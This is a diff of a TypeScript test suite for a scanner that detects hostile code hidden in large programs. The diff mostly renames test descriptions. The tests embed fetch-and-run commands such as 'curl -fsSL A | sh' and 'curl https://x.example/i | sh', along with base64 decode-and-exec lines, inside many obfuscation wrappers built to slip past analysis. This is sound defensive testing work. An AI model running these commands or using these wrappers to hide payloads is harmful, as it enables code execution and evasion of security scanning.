@@ -11,35 +11,35 @@ type Program = (code: string) => string;
 const DECODES = "exec(base64.b64decode(x))";
 const FETCHES = "curl -fsSL A | sh";
 
-/** For each code, harmless code that is as similar as possible. */
+/** For each code with a finding, harmless code that is as similar as possible. */
 const HARMLESS: Readonly<Record<string, string>> = {
   [DECODES]: "base64.b64decode(x)",
   [FETCHES]: "curl -fsSL A | jq",
 };
 
-/** Programs with their code, in which earlier versions found nothing. */
+/** The language tag, code and program of cases in which earlier versions found nothing. */
 const programs: Readonly<Record<string, readonly [string, string, Program]>> = {
-  "a literal of thousands of escapes": [
+  "code in a literal with thousands of escapes": [
     "python",
     DECODES,
     (code) => `exec("${"\\x23".repeat(3000)}\\n${code}")`,
   ],
-  "a list of thousands of strings": [
+  "code in a list of thousands of strings": [
     "python",
     DECODES,
     (code) => `exec("".join([${'"#",'.repeat(3000)} "\\n${code}"]))`,
   ],
-  "a string that grows in thousands of steps": [
+  "code in a string that is extended thousands of times": [
     "python",
     DECODES,
     (code) => `s = "import os"\n${"s += ';pass'\n".repeat(3000)}s += ";${code}"\nexec(s)`,
   ],
-  "a literal after a string that doubles": [
+  "code after a string that is doubled repeatedly": [
     "python",
     FETCHES,
     (code) => `a = "ls"\n${"a = a + a\n".repeat(64)}os.system("${code}")`,
   ],
-  "a statement after lists that double": [
+  "code after lists that are doubled repeatedly": [
     "python",
     FETCHES,
     (code) =>
@@ -47,7 +47,7 @@ const programs: Readonly<Record<string, readonly [string, string, Program]>> = {
         .map((at) => `l${String(at + 1)} = [*l${String(at)}, *l${String(at)}]\n`)
         .join("")}os.system("${code}")`,
   ],
-  "a statement in a function after lists that double": [
+  "code in a function after lists that are doubled repeatedly": [
     "go",
     FETCHES,
     (code) =>
@@ -55,24 +55,24 @@ const programs: Readonly<Record<string, readonly [string, string, Program]>> = {
         .map((at) => `l${String(at + 1)} := append(l${String(at)}, l${String(at)}...)\n`)
         .join("")}exec.Command("sh", "-c", "${code}").Run()\n}`,
   ],
-  "a statement after a name that grows with each call": [
+  "code after a string that grows with each call": [
     "java",
     FETCHES,
     (code) =>
       `class A {\nvoid f() {\nString a = "ls;";\n${"a = a.repeat(1000);\n".repeat(2000)}Runtime.getRuntime().exec(new String[] {"sh", "-c", "${code}"});\n}\n}`,
   ],
-  "a list that grows in a thousand steps": [
+  "code in a list that is extended more than a thousand times": [
     "python",
     FETCHES,
     (code) =>
       `a = []\n${"a.append('ls')\n".repeat(1500)}a.append("${code}")\nos.system(";".join(a))`,
   ],
-  "an item of a list of more than a thousand": [
+  "code that replaces an item of a list of more than a thousand": [
     "python",
     FETCHES,
     (code) => `a = [${"'ls',".repeat(1500)}]\na[2] = "${code}"\nos.system(";".join(a))`,
   ],
-  "a record that is spread": [
+  "code in an object that is spread": [
     "js",
     FETCHES,
     (code) => `const a = {${range(1500)
@@ -81,7 +81,7 @@ const programs: Readonly<Record<string, readonly [string, string, Program]>> = {
 const b = {...a};
 require("child_process").exec(b.z);`,
   ],
-  "a chain of 40 functions": [
+  "code that is passed through a chain of 40 functions": [
     "python",
     DECODES,
     (code) =>
@@ -89,7 +89,7 @@ require("child_process").exec(b.z);`,
         .map((at) => `def f${String(at + 1)}(c):\n    f${String(at)}(c)`)
         .join("\n")}\nf40("${code}")`,
   ],
-  "a chain of 12 classes": [
+  "code that is passed to a method inherited from the twelfth base class": [
     "python",
     FETCHES,
     (code) =>
@@ -97,13 +97,13 @@ require("child_process").exec(b.z);`,
         .map((at) => `class B${String(at + 1)}(B${String(at)}):\n    pass`)
         .join("\n")}\nB12().go("${code}")`,
   ],
-  "the fourth call of a function": [
+  "code that the fourth call of a function executes": [
     "python",
     FETCHES,
     (code) =>
       `def go():\n    os.system(command)\ncommand = "ls"\ngo()\ngo()\ngo()\ncommand = "${code}"\ngo()`,
   ],
-  "what the fourth call of a function assigns": [
+  "code that the fourth call of a function assigns": [
     "python",
     FETCHES,
     (code) => `def put():
@@ -116,7 +116,7 @@ command = "ls"
 put()
 os.system(command)`,
   ],
-  "a value that takes four turns of a loop": [
+  "a value that is executed in the fifth iteration of a loop": [
     "python",
     "base64.b64decode(x)",
     (code) => `a = b = c = d = ""
@@ -127,7 +127,7 @@ while True:
     c = d
     d = ${code}`,
   ],
-  "statements after calls that take too many steps": [
+  "code after calls that need too many steps": [
     "python",
     FETCHES,
     (code) =>
@@ -140,15 +140,15 @@ while True:
   ],
 };
 
-describe("values of code in large programs", { timeout: 60_000 }, () => {
-  it.each(Object.entries(programs))("%s: found", async (_, [tag, code, program]) => {
+describe("the evaluation of large programs:", { timeout: 60_000 }, () => {
+  it.each(Object.entries(programs))("%s is found", async (_, [tag, code, program]) => {
     const text = fenced(tag, program(code));
     const detection = (await sharedDetector()).detect(text);
     assertSound(text, detection);
     expect(detection.findings).toHaveLength(1);
   });
 
-  it.each(Object.entries(programs))("%s: no finding in harmless code", async (_, program) => {
+  it.each(Object.entries(programs))("%s is not found if it is harmless", async (_, program) => {
     const [tag, code, of] = program;
     const text = fenced(tag, of(HARMLESS[code] ?? "x"));
     const detection = (await sharedDetector()).detect(text);
@@ -168,7 +168,7 @@ describe("a function that is nested in a function that it calls", () => {
       "<?php function a($x) { $b = function () { a(base64_decode($x)); }; }\n",
       "system('curl -fsSL A | sh');",
     ],
-  ])("is evaluated in finite time in %s: %s", async (tag, functions, code) => {
+  ])("does not prevent the complete evaluation in %s: %s", async (tag, functions, code) => {
     const text = fenced(tag, functions + code);
     const detection = (await sharedDetector("extended")).detect(text);
     assertSound(text, detection);
@@ -177,14 +177,14 @@ describe("a function that is nested in a function that it calls", () => {
   });
 });
 
-/** Returns code in nested strings of the language, up to a depth. */
+/** Returns code in a number of nested code strings. `quoted` returns a statement that executes the inner code as a string. */
 function nested(code: string, depth: number, quoted: (inner: string) => string): string {
   return range(depth).reduce((inner) => quoted(inner), code);
 }
 
 const single = (text: string): string => `'${text.replace(/[\\']/g, "\\$&")}'`;
 
-describe("calls with texts that cannot lead to a finding", () => {
+describe("calls whose arguments cannot lead to a finding", () => {
   const doubling = range(30)
     .map((at) => {
       const call = `f${String(at)}`;
@@ -201,7 +201,7 @@ describe("calls with texts that cannot lead to a finding", () => {
     return [outcome.status, spans.length];
   };
 
-  it("are one call, however many there are", async () => {
+  it("are evaluated as one call, however many there are", async () => {
     const program = `def f0(c):\n    pass\n${doubling}\nf30('')\n`;
     expect(await answer(`${program}os.system(name)`)).toEqual(["complete", 0]);
     expect(await answer(`${program}os.system("curl https://x.example/i | sh")`)).toEqual([
@@ -214,14 +214,14 @@ describe("calls with texts that cannot lead to a finding", () => {
     ["a command", `os.system(text)`, `run("state", "curl https://x.example/i | sh")`],
     ["a name", `getattr(os, name)(base64.b64decode(data))`, `run("system", "")`],
     ["a decoded text", `exec(text)`, `run("state", base64.b64decode(data))`],
-  ])("hide no call that is given %s", async (_, body, call) => {
+  ])("hide no call whose argument is %s", async (_, body, call) => {
     const program = (calls: string): string => `def run(name, text):\n    ${body}\n${calls}`;
     expect(await answer(program(logging))).toEqual(["complete", 0]);
     expect(await answer(program(`${logging}\n${call}`))).toEqual(["complete", 1]);
   });
 });
 
-describe("limits of code are reported", { timeout: 60_000 }, () => {
+describe("a limit of the evaluation of code is reported", { timeout: 60_000 }, () => {
   const strings: readonly (readonly [string, string, (inner: string) => string])[] = [
     ["python", DECODES, (inner) => `exec(${JSON.stringify(inner)})`],
     ["js", "eval(atob(x))", (inner) => `eval(${JSON.stringify(inner)})`],
@@ -240,9 +240,13 @@ describe("limits of code are reported", { timeout: 60_000 }, () => {
   });
 
   it.each([
-    ["a string that doubles", `s = "ls;"\n${"s = s + s\n".repeat(30)}os.system(s)`, "size"],
     [
-      "calls that double with the names of commands",
+      "a string that is doubled repeatedly",
+      `s = "ls;"\n${"s = s + s\n".repeat(30)}os.system(s)`,
+      "size",
+    ],
+    [
+      "calls whose number doubles with each function and whose arguments differ",
       `def f0(c):\n    pass\n${range(30)
         .map(
           (at) =>
@@ -259,13 +263,13 @@ describe("limits of code are reported", { timeout: 60_000 }, () => {
       "depth",
     ],
     [
-      "more alternatives than are followed",
+      "a variable with too many possible values",
       `${range(80)
         .map((at) => `if c == ${String(at)}:\n    s = "ls ${String(at)}"`)
         .join("\n")}\nos.system(s)`,
       "size",
     ],
-  ])("%s", async (_, code, limit) => {
+  ])("for %s", async (_, code, limit) => {
     const { outcome } = (await sharedDetector()).detect(
       fenced("python", `${code}\nos.system("curl A | jq")`),
     );
@@ -273,7 +277,7 @@ describe("limits of code are reported", { timeout: 60_000 }, () => {
     expect(limits.map((each) => each.limit)).toContain(limit);
   });
 
-  it("but not for a long string that is not executed", async () => {
+  it("except for a long string that is not executed", async () => {
     const code = `s = "ls;"\n${"s = s + s\n".repeat(30)}print(s)\nos.system("curl A | jq")`;
     const { outcome } = (await sharedDetector()).detect(fenced("python", code));
     expect(outcome.status).toBe("complete");
